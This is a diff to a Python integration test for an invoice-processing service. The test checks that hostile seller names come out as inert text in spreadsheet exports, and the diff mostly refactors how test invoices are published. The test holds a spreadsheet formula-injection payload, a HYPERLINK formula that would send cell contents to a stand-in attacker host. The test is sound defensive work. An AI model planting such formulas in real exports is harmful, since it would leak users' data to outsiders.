@@ -14,11 +14,9 @@ from datetime import date, timedelta
 import httpx
 import pytest
 
-from fapiao import topics
-from fapiao.domain.invoice_types import invoice_key
 from schemas.events import Party
 from tests.factories import BUYER, api_check_body, issued
-from tests.integration.conftest import Org
+from tests.integration.conftest import Org, publish_registered
 
 pytestmark = pytest.mark.integration
 SELLER_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"查看发票")'
@@ -35,12 +33,13 @@ def _no_formulas(xlsx: bytes) -> str:
     return sheet
 
 
-async def test_hostile_texts_leave_every_export_as_inert_text(api_url: str, publisher, org: Org) -> None:  # type: ignore[no-untyped-def]
+async def test_hostile_texts_leave_every_export_as_inert_text(
+    api_url: str, publisher, org: Org, settings
+) -> None:  # type: ignore[no-untyped-def]
     inv = issued(number="70990001").model_copy(
         update={"seller": Party(name=SELLER_NAME, tax_id="91110108MA01ABCD2X"), "buyer": BUYER}
     )
-    await publisher.publish(topics.INVOICES_ISSUED, invoice_key(inv.invoice_code, inv.invoice_number), inv)
-    await asyncio.sleep(0.5)
+    await publish_registered(publisher, settings, inv)
     check = api_check_body(inv)
     async with httpx.AsyncClient(base_url=api_url, headers=org.headers, timeout=30) as client:
         answer = await client.post("/v1/checks", params={"wait": 5}, json=check)
